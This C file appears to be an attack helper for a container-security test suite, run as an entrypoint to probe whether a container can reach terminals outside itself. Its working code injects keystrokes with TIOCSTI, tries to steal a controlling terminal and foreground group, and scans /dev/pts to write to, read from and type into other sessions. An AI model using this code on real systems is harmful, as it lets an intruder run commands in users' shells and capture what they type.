/* An attacker's program for tests/security/test_terminals.py: run as a
 * container's entrypoint, it goes for terminals that are not its own.
 *
 *   stdio TEXT     the terminal on its stdin/stdout/stderr, if any (the
 *                  user's, that `brandpy run` was started from): type TEXT
 *                  into it with TIOCSTI, as its controlling terminal if it
 *                  can make it so (setsid, TIOCSCTTY, with and without the
 *                  steal flag), and take its foreground process group
 *   scan TEXT      every /dev/pts/N it can open (other sessions'
 *                  terminals): write TEXT on it (the victim's screen), read
 *                  what the victim types there, type TEXT into it
 *                  (TIOCSTI, also after making it its controlling terminal)
 *   ls             the names in /dev/pts
 *   info           what its terminal looks like: isatty, ttyname, the
 *                  window size, /dev/tty (for the -t tests, not an attack)
 *
 * It prints "TYPED <where>" for each TIOCSTI that worked, "OPENED <path>"
 * for each terminal it opened, "STOLE <bytes>" for what it read there.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

static int type_into(int fd, const char *text, const char *where)
{
    for (const char *p = text; *p; p++)
        if (ioctl(fd, TIOCSTI, p) < 0) {
            printf("TIOCSTI %s: %s\n", where, strerrorname_np(errno));
            return -1;
        }
    printf("TYPED %s\n", where);
    return 0;
}

/* Make fd our controlling terminal: a new session (from a child, which is
 * no group leader), then TIOCSCTTY without and with the steal flag. */
static void as_ctty(int fd, const char *text, const char *where)
{
    pid_t pid = fork();
    if (pid == 0) {
        if (setsid() < 0)
            printf("setsid: %s\n", strerrorname_np(errno));
        int ok = ioctl(fd, TIOCSCTTY, 0) == 0;
        if (!ok) {
            printf("TIOCSCTTY %s: %s\n", where, strerrorname_np(errno));
            ok = ioctl(fd, TIOCSCTTY, 1) == 0;
            if (!ok)
                printf("TIOCSCTTY steal %s: %s\n", where, strerrorname_np(errno));
        }
        if (ok) {
            printf("CTTY %s\n", where);
            char buf[64];
            snprintf(buf, sizeof buf, "%s as ctty", where);
            type_into(fd, text, buf);
        }
        fflush(stdout);
        _exit(0);
    }
    waitpid(pid, NULL, 0);
}

static int stdio(const char *text)
{
    for (int fd = 0; fd < 3; fd++) {
        char where[32];
        snprintf(where, sizeof where, "fd %d", fd);
        if (!isatty(fd)) {
            printf("%s: not a tty\n", where);
            continue;
        }
        printf("%s: a tty (%s)\n", where, ttyname(fd) ?: "?");
        if (type_into(fd, text, where) < 0)
            as_ctty(fd, text, where);
        /* job control: take the terminal's foreground */
        signal(SIGTTOU, SIG_IGN);
        if (tcsetpgrp(fd, getpgrp()) == 0)
            printf("FOREGROUND %s\n", where);
    }
    return 0;
}

static int scan(const char *text)
{
    for (int n = 0; n < 256; n++) {
        char path[32], where[48];
        snprintf(path, sizeof path, "/dev/pts/%d", n);
        int fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
        if (fd < 0) {
            if (errno != ENOENT && errno != EIO)
                printf("open %s: %s\n", path, strerrorname_np(errno));
            continue;
        }
        printf("OPENED %s\n", path);
        (void)!write(fd, text, strlen(text));
        (void)!write(fd, "\n", 1);
        char buf[256];
        ssize_t got = read(fd, buf, sizeof buf - 1);
        if (got > 0) {
            buf[got] = 0;
            printf("STOLE %s\n", buf);
        }
        snprintf(where, sizeof where, "%s", path);
        if (type_into(fd, text, where) < 0)
            as_ctty(fd, text, where);
        close(fd);
    }
    return 0;
}

static int ls(void)
{
    DIR *d = opendir("/dev/pts");
    if (!d) {
        printf("opendir /dev/pts: %s\n", strerrorname_np(errno));
        return 0;
    }
    struct dirent *e;
    while ((e = readdir(d)))
        if (e->d_name[0] != '.')
            printf("PTS %s\n", e->d_name);
    closedir(d);
    return 0;
}

static int info(void)
{
    for (int fd = 0; fd < 3; fd++)
        printf("fd %d: %s %s\n", fd, isatty(fd) ? "tty" : "notty",
               isatty(fd) ? (ttyname(fd) ?: "?") : "-");
    struct winsize ws;
    if (ioctl(1, TIOCGWINSZ, &ws) == 0)
        printf("size %d %d\n", ws.ws_row, ws.ws_col);
    int fd = open("/dev/tty", O_RDWR);
    printf("/dev/tty: %s\n", fd >= 0 ? "opened" : strerrorname_np(errno));
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    const char *mode = argc > 1 ? argv[1] : "";
    if (!strcmp(mode, "stdio") && argc == 3)
        return stdio(argv[2]);
    if (!strcmp(mode, "scan") && argc == 3)
        return scan(argv[2]);
    if (!strcmp(mode, "ls"))
        return ls();
    if (!strcmp(mode, "info"))
        return info();
    fprintf(stderr, "usage: tty_attack stdio|scan TEXT | ls | info\n");
    return 2;
}
